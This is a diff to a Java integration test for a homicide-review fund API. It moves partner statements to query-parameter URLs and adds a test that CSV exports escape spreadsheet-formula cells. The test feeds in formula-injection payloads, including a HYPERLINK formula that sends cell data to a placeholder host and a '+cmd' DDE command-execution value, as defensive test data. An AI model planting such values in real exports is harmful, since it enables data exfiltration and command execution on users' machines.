@@ -209,15 +209,57 @@ class StandaloneDHRIT {
     }
 
     @Test
+    void partnersWhoseNamesAPathCannotCarryHaveTheirOwnStatementsAndNoCsvCellRunsAsAFormula() throws IOException {
+        String police = "Police/OPCC";
+        String joint = "Leicester;Rutland";
+        String formula = "=HYPERLINK(\\\"http://example.invalid/?x=\\\"&A1,\\\"Click\\\")";
+        on("2016-06-01T12:00:00Z");
+        String fund = "/api/dhr-funds/odd-partners";
+        accepted(http.post("/api/dhr-funds", """
+                {"fundId":"odd-partners","name":"A fund of odd partners","openedOn":"2016-04-01","openingBalance":"0.00"}"""));
+        accepted(http.put(fund + "/contributions/2016-17", """
+                {"contributions":[{"partner":"%s","amount":"100.00"},{"partner":"%s","amount":"200.00"},
+                 {"partner":"%s","amount":"300.00"},{"partner":"+cmd|' /C calc'!A0","amount":"400.00"}],
+                 "resolutionReference":"-2+3","agreedOn":"2016-04-02"}""".formatted(police, joint, formula)));
+        accepted(http.post(fund + "/drawdowns", """
+                {"drawdownId":"odd-call","financialYear":"2016-17","amounts":[{"partner":"%s","amount":"100.00"}],
+                 "reason":"@SUM(1+1)","drawnOn":"2016-05-01"}""".formatted(police)));
+        accepted(http.post(fund + "/receipts", """
+                {"receiptId":"odd-receipt","financialYear":"2016-17","partner":"%s","amount":"100.00","receivedOn":"2016-05-02",
+                 "reference":"\\tRemittance"}""".formatted(police)));
+        Http.Response allocated = accepted(http.post(fund + "/allocations", """
+                {"allocationId":"odd-allocation","amount":"50.00","purpose":"OTHER","description":"@SUM(1+1)",
+                 "resolutionReference":"-2+3","allocatedOn":"2016-05-03"}"""));
+
+        JsonNode policeStatement = http.get(fund + "/partner-statement?partner=Police%2FOPCC&readAfter="
+                + allocated.body().get("readAfter").asText()).body();
+        assertThat(policeStatement.get("partner").asText()).isEqualTo(police);
+        assertThat(policeStatement.toString()).contains("100.00");
+        Http.Response jointStatement = http.get(fund + "/partner-statement?partner=Leicester%3BRutland");
+        assertThat(jointStatement.status()).isEqualTo(200);
+        assertThat(jointStatement.body().get("partner").asText()).isEqualTo(joint);
+        assertThat(http.get(fund + "/partner-statement?partner=Leicester").status()).isEqualTo(404);
+
+        List<String> contributionCells = new ArrayList<>();
+        parse(http.get(fund + "/contributions/2016-17.csv")).forEach(record -> contributionCells.addAll(record.toList()));
+        assertThat(contributionCells).contains("'=HYPERLINK(\"http://example.invalid/?x=\"&A1,\"Click\")", "'+cmd|' /C calc'!A0",
+                police, joint);
+        List<String> ledgerCells = new ArrayList<>();
+        parse(http.get(fund + "/ledger.csv")).forEach(record -> ledgerCells.addAll(record.toList()));
+        assertThat(ledgerCells).contains("'@SUM(1+1)", "'\tRemittance", "'-2+3");
+        assertThat(ledgerCells).noneMatch(cell -> !cell.isEmpty() && "=+@\t".indexOf(cell.charAt(0)) >= 0);
+    }
+
+    @Test
     void partnerStatementFollowsWhatWasAgreedCalledInAndPaid() {
-        JsonNode statement = http.get(FUND + "/partners/Rutland%20County%20Council/statement").body();
+        JsonNode statement = http.get(FUND + "/partner-statement?partner=Rutland%20County%20Council").body();
 
         assertThat(statement.get("entries")).extracting(entry -> entry.get("date").asText() + " " + entry.get("kind").asText() + " "
                         + entry.get("amount").asText() + " owing " + entry.get("outstandingAfter").asText())
                 .containsExactly("2015-01-28 AGREED 2500.00 owing 0.00", "2015-06-01 DRAWN_DOWN 250.00 owing 250.00",
                         "2015-06-17 RECEIVED 250.00 owing 0.00");
         assertThat(statement.get("totalOutstanding").asText()).isEqualTo("0.00");
-        assertThat(http.get(FUND + "/partners/Leicester%20City%20Council/statement").status()).isEqualTo(404);
+        assertThat(http.get(FUND + "/partner-statement?partner=Leicester%20City%20Council").status()).isEqualTo(404);
     }
 
     @Test
@@ -254,7 +296,7 @@ class StandaloneDHRIT {
         assertThat(allocations.get(0).get("Resolution")).isEqualTo("LSCSB 28 January 2015, minute 7(b)");
         assertThat(allocations.get(1).get("Released")).isEqualTo("600.00");
 
-        List<CSVRecord> statement = parse(http.get(FUND + "/partners/Leicestershire%20Police/statement.csv"));
+        List<CSVRecord> statement = parse(http.get(FUND + "/partner-statement.csv?partner=Leicestershire%20Police"));
         assertThat(statement).extracting(row -> row.get("Entry") + " " + row.get("Amount"))
                 .containsExactly("AGREED 16000.00", "DRAWN_DOWN 1600.00", "RECEIVED 1600.00");
     }
@@ -367,7 +409,7 @@ class StandaloneDHRIT {
     private Map<String, JsonNode> readModels() {
         Map<String, JsonNode> models = new LinkedHashMap<>();
         for (String path : List.of(FUND + "/contributions/2015-16", FUND + "/ledger", FUND + "/ledger?year=2015-16",
-                FUND + "/allocations", FUND + "/partners/Leicestershire%20County%20Council/statement", "/api/reviews/homicide-2014")) {
+                FUND + "/allocations", FUND + "/partner-statement?partner=Leicestershire%20County%20Council", "/api/reviews/homicide-2014")) {
             models.put(path, http.get(path).body());
         }
         return models;
